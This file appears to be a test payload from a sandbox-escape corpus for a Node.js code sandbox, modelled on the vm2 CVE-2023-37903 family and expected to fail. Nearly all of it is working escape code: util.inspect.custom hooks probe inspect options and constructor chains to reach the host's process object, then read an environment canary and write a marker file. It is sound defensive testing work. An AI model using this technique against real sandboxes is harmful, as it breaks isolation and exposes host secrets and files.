// @name    util.inspect.custom on class instances, errors, functions, map keys and the thrown value
// @family  inspect-custom
// @ref     CVE-2023-37903 family (vm2)
// @expect  no-escape
// ---- prelude (the same in every escape payload of this corpus): what to do with the host once reached ----
const MARKER = "/tmp/codemode-escape-marker";
// pwn(p): p is the host's `process`. Take the canary and leave the marker file; the canary in the
// outcome (or the marker on disk) is what the runner reports as an escape.
function pwn(p) {
  let canary = "?";
  try { canary = String(p.env.CODEMODE_CANARY); } catch {}
  try {
    const fs = typeof p.getBuiltinModule === "function" ? p.getBuiltinModule("node:fs") : p.mainModule.require("node:fs");
    fs.writeFileSync(MARKER, "escaped " + canary);
  } catch {}
  return "ESCAPED " + canary;
}
// hostProcess(v): v when it looks like a host process object.
function hostProcess(v) {
  try { if (v !== null && typeof v === "object" && typeof v.pid === "number" && v.env) return v; } catch {}
  return null;
}
// viaCtor(F): F used as the Function constructor of another realm, asked for that realm's process.
function viaCtor(F) {
  if (typeof F !== "function") return null;
  const bodies = ["return process", "return globalThis.process", "return this && this.process",
    "return typeof require === 'function' ? require('node:process') : null"];
  for (const body of bodies) {
    try { const p = hostProcess(F(body)()); if (p) return pwn(p); } catch {}
  }
  return null;
}
// probe(x): x itself, then the constructors one and two steps up from x and from its prototype.
function probe(x) {
  if (x === null || x === undefined) return null;
  const direct = hostProcess(x);
  if (direct) return pwn(direct);
  const fns = [];
  const take = (f) => { if (typeof f === "function" && fns.indexOf(f) < 0) fns.push(f); };
  try { take(x.constructor); take(x.constructor && x.constructor.constructor); } catch {}
  try {
    const proto = Reflect.getPrototypeOf(Object(x));
    take(proto && proto.constructor);
    take(proto && proto.constructor && proto.constructor.constructor);
  } catch {}
  for (const f of fns) { const r = viaCtor(f); if (r) return r; }
  return null;
}
// ---- payload ----
let out = null;
const custom = Symbol.for("nodejs.util.inspect.custom");
const hook = function (depth, options, inspect) {
  out = out || probe(options) || probe(inspect) || probe(options && options.stylize) || probe(this);
  return "custom";
};
class Widget { constructor() { this.x = 1; } [custom]() { return hook.apply(this, arguments); } }
const w = new Widget();
const err = new Error("e");
err[custom] = hook;
const fn = function named() {};
fn[custom] = hook;
const bare = Object.create(null);
bare[custom] = hook;
const objects = [w, err, fn, new Map([[w, w]]), new Set([w]), [w, [w]], { w, get g() { return w; } }, bare];
for (const o of objects) {
  try {
    console.log(o);
    console.log("%o|%O|%s|%j|%d", o, o, o, o, o);
    console.dir(o, { depth: 5, showHidden: true, customInspect: true });
  } catch (e) { out = out || probe(e); }
}
if (out) return out;
throw Object.assign(new Error("thrown with a custom inspect"), { [custom]: hook, detail: w });
